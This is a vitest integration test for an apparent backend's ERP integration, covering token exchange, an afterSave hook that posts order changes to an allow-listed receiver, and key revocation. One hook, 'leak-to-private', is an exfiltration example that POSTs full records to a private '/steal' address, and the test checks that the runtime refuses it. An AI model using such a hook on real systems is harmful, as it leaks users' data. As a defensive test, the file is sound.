import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { gqlData, graphqlClient, login, postJson, startTestServer, type TestServer } from '../helpers/server.js';
import { waitFor } from '../helpers/wait.js';

/** docs/scenarios.md 5: the ERP integration, with an afterSave hook that posts each change to an allow-listed URL. */
let receiver: Server;
let received: Array<Record<string, unknown>>;
let server: TestServer;
let ownerGql: ReturnType<typeof graphqlClient>;
let clerkId: string;
let tableId: string;

beforeAll(async () => {
  received = [];
  receiver = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => (body += chunk));
    request.on('end', () => {
      received.push({ path: request.url, ...JSON.parse(body) });
      response.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
  const port = (receiver.address() as AddressInfo).port;
  server = await startTestServer({ TRELLIS_HOOK_EGRESS_ALLOW: `127.0.0.1:${port}` });
  ownerGql = graphqlClient(server.url, await login(server.url));
  const clerk = await gqlData(ownerGql, 'mutation { createUser(email: "clerk@example.com", password: "clerk-password", role: "viewer") { _id } }');
  clerkId = clerk.createUser._id;
  const table = await gqlData(
    ownerGql,
    'mutation { createTable(name: "Orders", fields: [{ name: "title", type: "text", required: true }, { name: "amount", type: "number" }]) { _id } }',
  );
  tableId = table.createTable._id;
  // The clerk's role reads and writes the orders: x-userid never widens what the integration reaches (D32).
  const all = { level: 'ALL' };
  await gqlData(ownerGql, 'mutation($t: ID!, $a: TableAccessInput!) { setTableAccess(tableId: $t, roleId: "viewer", access: $a) { roleId } }', {
    t: tableId,
    a: { read: all, create: all, update: all, delete: all },
  });
  await gqlData(ownerGql, 'mutation($tableId: ID!, $content: String!) { createHook(name: "post-to-erp-bus", type: "afterSave", tableId: $tableId, content: $content) { _id } }', {
    tableId,
    content: `async function (instance) {
  await fetch('http://127.0.0.1:${port}/orders', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ id: instance._id, amount: instance.amount, by: user ? user._id : null }),
  });
}`,
  });
  await gqlData(ownerGql, 'mutation($tableId: ID!, $content: String!) { createHook(name: "leak-to-private", type: "afterSave", tableId: $tableId, content: $content) { _id } }', {
    tableId,
    content: "async function (instance) { await fetch('http://10.0.0.1/steal', { method: 'POST', body: JSON.stringify(instance) }); }",
  });
});
afterAll(async () => {
  await server?.close();
  await new Promise((resolve) => receiver?.close(resolve));
});

describe('the ERP integration (scenario 5)', () => {
  let clientId: string;
  let apiKey: string;
  let token: string;

  const asErp = (query: string, variables: Record<string, unknown>) =>
    postJson(`${server.url}/graphql`, { query, variables }, { authorization: `Bearer ${token}`, 'x-userid': clerkId });

  it('exchanges the erp key for a token and saves an order as the clerk', async () => {
    const created = await gqlData(ownerGql, 'mutation { createIntegrationKey(name: "erp") { clientId apiKey } }');
    ({ clientId, apiKey } = created.createIntegrationKey);
    const exchange = await postJson(`${server.url}/api/auth/token`, { clientId, apiKey });
    expect(exchange.status).toBe(200);
    token = exchange.body.access_token;

    const order = await asErp('mutation($data: OrdersInput!) { createOrders(data: $data) { _id } }', { data: { title: 'Desk', amount: 120 } });
    const Id = order.body.data.createOrders._id;
    const updated = await asErp(
      'mutation($Id: ID!, $data: OrdersInput) { updateOrders(Id: $Id, data: $data) { _id amount _updatedBy } }',
      { Id, data: { amount: 150 } },
    );
    expect(updated.body.data.updateOrders).toEqual({ _id: Id, amount: 150, _updatedBy: clerkId });
  });

  it('posts each saved change to the allow-listed URL from the afterSave hook, with the clerk as user', async () => {
    const posts = await waitFor('two posts from the afterSave hook', () => (received.length >= 2 ? received : undefined));
    expect(posts.map((p) => p.amount)).toEqual([120, 150]);
    expect(posts.every((p) => p.path === '/orders' && p.by === clerkId)).toBe(true);
  });

  it('refuses the hook that posts to a private address, without failing the saves', async () => {
    await server.server.services.hookRuntime.flushRunLog();
    const runs = await waitFor('two runs of the refused hook', async () => {
      const rows = await server.server.services.ctx.db.selectFrom('hook_runs').selectAll().where('hook_name', '=', 'leak-to-private').execute();
      return rows.length >= 2 ? rows : undefined;
    });
    expect(runs.every((r) => r.outcome === 'error')).toBe(true);
    expect(runs[0]!.error).toMatch(/10\.0\.0\.1|not allowed|refused/i);
    const orders = await gqlData(ownerGql, '{ listOrders { total } }');
    expect(orders.listOrders.total).toBe(1);
  });

  it('stops the ERP at once when the admin deletes its key', async () => {
    await gqlData(ownerGql, 'mutation($clientId: String!) { deleteIntegrationKey(clientId: $clientId) }', { clientId });
    const refused = await asErp('mutation($data: OrdersInput!) { createOrders(data: $data) { _id } }', { data: { title: 'Chair' } });
    expect(refused.status).toBe(401);
    expect((await postJson(`${server.url}/api/auth/token`, { clientId, apiKey })).status).toBe(401);
  });
});
